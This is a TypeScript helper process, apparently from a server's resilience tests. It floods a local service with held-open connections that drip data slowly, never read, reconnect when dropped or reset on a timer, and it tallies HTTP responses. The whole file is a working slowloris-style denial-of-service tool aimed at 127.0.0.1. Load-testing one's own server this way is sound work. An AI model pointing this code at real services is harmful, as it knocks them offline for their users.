// A process of its own that holds many connections to a service open, so that who measures the service is not busy.
import { connect, type Socket } from 'node:net';

export interface AttackPlan {
  port: number;
  connections: number;
  /** Sent once on each connection. */
  opening: string;
  /** Sent again and again after it; empty: nothing. */
  drip: string;
  everyMs: number;
  /** Opens a new connection for each that the service ends. */
  stubborn: boolean;
  /** A client that never reads. */
  deaf: boolean;
  /** Goes away by itself after so long, by a reset. */
  abortsAfterMs?: number;
}

export interface AttackReport {
  /** Connections that stand. */
  open: number;
  /** Connections that the service, or its machine, ended. */
  ended: number;
  /** How often each status was answered. */
  answers: Record<string, number>;
}

const open = new Set<Socket>();
const answers: Record<string, number> = {};
let ended = 0;

function count(text: string): void {
  for (const [, status = ''] of text.matchAll(/HTTP\/1\.1 (\d{3})/g)) answers[status] = (answers[status] ?? 0) + 1;
}

/** Resolves when it stands, or cannot. */
function openOne(plan: AttackPlan): Promise<void> {
  const { port, opening, deaf, abortsAfterMs, stubborn } = plan;
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port, noDelay: true });
    if (deaf) socket.pause();
    else socket.setEncoding('latin1').on('data', count);
    socket.on('error', () => {});
    socket.once('connect', () => {
      open.add(socket);
      if (opening) socket.write(opening);
      if (abortsAfterMs !== undefined) setTimeout(() => socket.resetAndDestroy(), abortsAfterMs);
      resolve();
    });
    socket.once('close', () => {
      ended += 1;
      open.delete(socket);
      resolve();
      if (stubborn) setTimeout(() => void openOne(plan), reopensAfterMs);
    });
  });
}

/** A flood of new connections is another attack. */
const reopensAfterMs = 100;

/** So many at once as a listening socket keeps waiting: more would only wait for their SYN to be sent again. */
const atOnce = 200;

async function attack(plan: AttackPlan): Promise<void> {
  for (let opened = 0; opened < plan.connections; opened += atOnce)
    await Promise.all(Array.from({ length: Math.min(atOnce, plan.connections - opened) }, () => openOne(plan)));
  if (!plan.drip) return;
  setInterval(() => {
    for (const socket of open) if (socket.writable) socket.write(plan.drip);
  }, plan.everyMs);
}

const report = (): AttackReport => ({ open: open.size, ended, answers });

process.once('disconnect', () => process.exit());
process.on('message', (message: AttackPlan | 'report' | 'stop') => {
  if (message === 'report') return void process.send?.(report());
  if (message === 'stop') {
    for (const socket of open) socket.resetAndDestroy();
    return process.disconnect();
  }
  void attack(message).then(() => process.send?.(report()));
});
